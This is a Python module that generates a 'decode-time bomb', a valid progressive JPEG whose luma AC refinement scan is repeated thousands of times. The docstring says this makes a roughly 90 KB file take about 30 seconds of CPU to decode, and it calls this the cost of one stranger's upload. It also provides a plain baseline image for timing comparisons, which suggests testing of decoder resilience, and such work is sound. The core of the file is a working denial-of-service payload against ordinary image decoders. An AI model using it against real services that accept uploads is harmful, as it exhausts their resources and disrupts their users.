"""A decode-time bomb: a small, valid progressive JPEG whose scans repeat many times.

A progressive JPEG is a sequence of scans, each refining the coefficients of the whole image; a
decoder runs through every block for every scan. PIL writes a plain progressive JPEG of a flat
picture (its refinement scans are a few dozen bytes each); copying the luma AC refinement scan
`repeats` times before the end of the file gives a file of a few KB more per hundred repeats that
takes a full pass over all blocks per repeat. At 2048x2048 one repeat costs ~8 ms of CPU here (PIL),
so 4,000 repeats (~90 KB) are ~30 s of decoding: what one stranger's upload costs whoever decodes it.
"""

from __future__ import annotations

import io

from PIL import Image


def _scans(data: bytes) -> list[tuple[int, int]]:
    """(start, end) of every SOS segment: its header plus its entropy-coded data."""
    scans = []
    i = 2  # after SOI
    while i + 4 <= len(data):
        marker = data[i + 1]
        if marker == 0xD9:  # EOI
            break
        length = int.from_bytes(data[i + 2:i + 4], "big")
        if marker != 0xDA:
            i += 2 + length
            continue
        j = i + 2 + length
        while not (data[j] == 0xFF and data[j + 1] != 0x00 and not 0xD0 <= data[j + 1] <= 0xD7):
            j += 1
        scans.append((i, j))
        i = j
    return scans


def _is_luma_ac_refinement(data: bytes, start: int) -> bool:
    header = data[start + 4:]
    components = header[0]
    ss, se, approx = header[1 + 2 * components], header[2 + 2 * components], header[3 + 2 * components]
    return components == 1 and header[1] == 1 and ss >= 1 and se == 63 and approx >> 4 > 0


def progressive_scan_bomb(side: int = 2048, repeats: int = 4000, color: tuple[int, int, int] = (120, 60, 200)) -> bytes:
    """A side x side progressive JPEG with its luma AC refinement scan repeated `repeats` times."""
    out = io.BytesIO()
    Image.new("RGB", (side, side), color).save(out, "JPEG", quality=90, progressive=True)
    data = out.getvalue()
    scans = _scans(data)
    start, end = next((s, e) for s, e in scans if _is_luma_ac_refinement(data, s))
    last = scans[-1][1]
    return data[:last] + data[start:end] * repeats + data[last:]


def plain_progressive_jpeg(side: int = 2048, color: tuple[int, int, int] = (120, 60, 200)) -> bytes:
    """The same picture without the repeats (the baseline to compare decode times with)."""
    return progressive_scan_bomb(side, 0, color)
